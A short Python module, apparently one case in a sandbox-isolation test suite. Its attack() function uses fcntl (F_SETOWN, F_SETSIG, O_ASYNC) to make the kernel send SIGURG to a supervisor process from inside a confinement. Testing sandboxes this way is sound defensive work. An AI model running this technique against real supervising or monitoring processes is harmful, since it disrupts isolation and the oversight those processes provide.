"""Makes the supervisor the owner of a pipe, and has the kernel signal it."""

import fcntl
import os
import signal

STOPPED_AT = "L1"
THROUGH_AT = "L0"


def attack(t):
    ours, theirs = os.pipe()
    fcntl.fcntl(ours, fcntl.F_SETOWN, t["supervisor"])
    fcntl.fcntl(ours, 10, signal.SIGURG)
    fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(theirs, b"x")
    return fcntl.fcntl(ours, fcntl.F_GETOWN) == t["supervisor"]
